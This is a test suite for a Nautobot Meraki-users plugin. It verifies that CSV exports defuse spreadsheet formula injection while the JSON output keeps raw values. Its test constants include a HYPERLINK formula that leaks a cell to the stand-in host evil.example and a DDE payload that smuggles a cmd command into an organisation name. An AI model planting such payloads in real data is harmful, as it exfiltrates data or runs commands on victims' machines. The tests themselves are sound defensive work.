"""Every CSV the app writes neutralises spreadsheet formulas; JSON results keep Meraki's values as they are."""

import csv
import doctest
import io
import json

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from factories import MerakiAdministratorFactory, MerakiOrganizationFactory
from job_helpers import JobTestCase, MerakiJobTestCase
from nautobot.apps.testing import create_job_result_and_run_job
from nautobot.extras.models import FileProxy

from nautobot_meraki_users import csv_safety
from nautobot_meraki_users.csv_safety import formula_safe
from nautobot_meraki_users.jobs import to_csv
from nautobot_meraki_users.models import MerakiAdministrator
from nautobot_meraki_users.operations.csv_import import IMPORT_COLUMNS

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ORG_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_doctests():
    assert doctest.testmod(csv_safety).failed == 0


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1", "'+1"),
        ("-1", "'-1"),  # OWASP: every cell starting so, negative numbers as text included
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Jane Doe", "Jane Doe"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
        (False, False),
        (None, None),
    ],
)
def test_formula_safe(value, expected):
    assert formula_safe(value) == expected


def test_to_csv_quotes_formulas_and_leaves_the_rows_alone():
    rows = [{"name": FORMULA, "count": -1, "note": "fine"}]
    text = to_csv(rows, ("name", "count", "note"))
    [row] = csv.DictReader(io.StringIO(text))
    assert row == {"name": "'" + FORMULA, "count": "-1", "note": "fine"}
    assert rows[0]["name"] == FORMULA  # the caller's rows (the JSON result) are not changed


def csv_file_of(job_result) -> list[dict]:
    [proxy] = FileProxy.objects.filter(job_result=job_result)
    return list(csv.DictReader(io.StringIO(proxy.file.read().decode())))


class JobCsvFilesTest(MerakiJobTestCase):
    def setUp(self):
        super().setUp()
        self.fake.add_organization("400", ORG_NAME)
        self.fake.add_admin("400", "mallory@example.com", FORMULA, org_access="full")
        self.fake.clear_records()

    def test_list_csv_is_formula_safe_and_the_json_keeps_the_names(self):
        job_result, rows, _ = self.run_job("ListUsers", meraki_org_id="400")
        [row] = rows
        self.assertEqual((row["name"], row["organization_name"]), (FORMULA, ORG_NAME))
        [csv_row] = csv_file_of(job_result)
        self.assertEqual((csv_row["name"], csv_row["organization_name"]), ("'" + FORMULA, "'" + ORG_NAME))
        self.assertEqual(csv_row["email"], "mallory@example.com")

    def test_import_result_csv_is_formula_safe(self):
        text = ",".join(IMPORT_COLUMNS) + "\nupdate,mallory@example.com,,400,read-only,,,,\n"
        upload = FileProxy.objects.create(name="import.csv", file=SimpleUploadedFile("import.csv", text.encode()))
        job_result, result, _ = self.run_job("ImportUsers", csv_file=upload.pk, dryrun=True)
        self.assertEqual(result["organizations"][0]["organization_name"], ORG_NAME)
        [csv_row] = csv_file_of(job_result)
        self.assertEqual(csv_row["organization_name"], "'" + ORG_NAME)
        self.assertEqual(csv_row["outcome"], "updated")


class InventoryCsvExportFormulaTest(JobTestCase):
    """The list views' Export (Nautobot's ExportObjectList job) and the REST API's CSV go through our serializers."""

    def setUp(self):
        super().setUp()
        org = MerakiOrganizationFactory(organization_id="400", name=ORG_NAME)
        MerakiAdministratorFactory(organization=org, email="mallory@example.com", name=FORMULA, admin_id="-5")

    def export(self, model):
        job_result = create_job_result_and_run_job(
            "nautobot.core.jobs",
            "ExportObjectList",
            content_type=ContentType.objects.get_for_model(model).pk,
            query_string="",
        )
        self.assertJobResultStatus(job_result)
        data = job_result.files.first().file.read().decode("utf-8").lstrip("\ufeff")
        return list(csv.DictReader(io.StringIO(data)))

    def test_export_of_administrators_is_formula_safe(self):
        [row] = self.export(MerakiAdministrator)
        self.assertEqual(row["name"], "'" + FORMULA)
        self.assertEqual(row["admin_id"], "'-5")
        self.assertFalse(row["display"].startswith(csv_safety.FORMULA_STARTS))
        self.assertEqual(row["email"], "mallory@example.com")
        self.assertEqual(json.loads(row["network_privileges"]), [])
        for value in row.values():
            self.assertFalse(value.startswith(csv_safety.FORMULA_STARTS), row)

    def test_the_json_api_keeps_the_name(self):
        self.user.is_superuser = True
        self.user.save()
        self.client.force_login(self.user)
        response = self.client.get("/api/plugins/meraki-users/administrators/", headers={"Accept": "application/json"})
        self.assertEqual(response.json()["results"][0]["name"], FORMULA)
        response = self.client.get("/api/plugins/meraki-users/administrators/", headers={"Accept": "text/csv"})
        [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
        self.assertEqual(row["name"], "'" + FORMULA)
